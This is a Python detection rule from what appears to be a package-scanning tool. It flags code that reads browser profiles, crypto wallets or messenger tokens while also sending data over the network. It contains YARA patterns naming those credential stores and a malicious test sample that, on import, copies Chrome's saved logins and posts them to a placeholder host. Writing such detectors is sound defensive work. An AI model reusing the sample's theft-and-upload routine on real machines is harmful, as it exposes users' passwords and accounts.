"""Browser profiles, wallets and messenger tokens that are opened or copied, beside network use."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Context, Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded
from wheelmark.scan.samples import Sample, Samples

YARA = r"""
rule stores {
    strings:
        $browser1 = /User Data[\\\/]{1,4}(Default|Local State|Profile)/ nocase
        $browser2 = /(Google|BraveSoftware|Yandex|Microsoft)[\\\/]{1,4}[A-Za-z -]{2,20}[\\\/]{1,4}User Data/ nocase
        $browser3 = "\\Login Data" nocase
        $browser4 = "/Login Data" nocase
        $browser5 = "\\Local State" nocase
        $messenger1 = /discord(canary|ptb)?['"\\\/]{1,6}(Local Storage)/ nocase
        $messenger2 = "\\Local Storage\\leveldb" nocase
        $messenger3 = "\\\\Local Storage\\\\leveldb" nocase
        $messenger4 = /[\\\/]tdata\b/
        $token = /\[\\w-\]\{24\}\\\.\[\\w-\]\{6\}\\\./
        $wallet1 = /(Exodus[\\\/]{1,4}exodus\.wallet|Electrum[\\\/]{1,4}wallets|wallet\.dat)/ nocase
        $wallet2 = /(atomic[\\\/]{1,4}Local Storage|Ethereum[\\\/]{1,4}keystore)/ nocase
        $protected = "CryptUnprotectData"
        $encrypted = "os_crypt"
    condition:
        any of them
}
"""
_MIN_KINDS = 2
_MANY_KINDS = 5


def check(facts: Facts) -> Iterator[Evidence]:
    kinds: dict[str, dict[str, int]] = {}
    for hit in facts.hits:
        if hit.rule == RULE.id and hit.context is not Context.UNREACHED:
            kinds.setdefault(hit.member, {}).setdefault(_kind(hit.text), hit.line)
    for member, found in kinds.items():
        if len(found) < _MIN_KINDS:
            continue
        sends = [call for call in facts.calls_of(Act.SEND) if call.member == member]
        if not sends:
            continue
        first = min(sends, key=_urgency)
        # A tool for one browser knows some of them; who knows them all, and sends, wants whatever there is.
        asked = Severity.CRITICAL if len(found) >= _MANY_KINDS else Severity.HIGH
        severity = graded(first.context, automatic=Severity.CRITICAL, entry=asked, on_call=asked)
        if severity is not None:
            line = min(found.values())
            yield Evidence(
                severity=severity,
                member=member,
                line=line,
                context=first.context,
                text=f"{', '.join(sorted(found))}; {first.name} (line {first.line})",
            )


def _urgency(call: Call) -> tuple[bool, int]:
    return (not call.context.automatic, call.line)


def _kind(text: str) -> str:
    lower = re.sub(r"[\\/]+", "/", text.lower())
    for word in (
        "login data",
        "local state",
        "user data",
        "leveldb",
        "tdata",
        "wallet",
        "keystore",
        "cryptunprotectdata",
        "os_crypt",
    ):
        if word in lower:
            return word
    return "messenger token"


RULE = Rule(
    id="credential-stores-read",
    version=2,
    severity=Severity.CRITICAL,
    tactic=Tactic.CREDENTIAL_ACCESS,
    message="Stores of browsers, wallets or messengers are read in a module that also sends over the network.",
    reference="https://attack.mitre.org/techniques/T1555/003/",
    check=check,
    yara=YARA,
    samples=Samples(
        malicious=(
            Sample.imported(r"""
                import os
                import shutil
                import sqlite3

                import requests

                _base = os.path.join(os.getenv("LOCALAPPDATA", ""), "Google\\Chrome\\User Data")


                def _collect():
                    shutil.copy(_base + "\\Default\\Login Data", "copy.db")
                    rows = sqlite3.connect("copy.db").execute("SELECT 1").fetchall()
                    requests.post("https://collect.example.invalid/", json=rows)


                _collect()
            """),
        ),
        benign=(
            Sample.imported(r'''
                """Where browsers keep their profiles, for tools that clean them. Sends nothing."""

                CHROME = "Google\\Chrome\\User Data\\Default"
                LOGINS = "\\Login Data"
            '''),
        ),
    ),
)
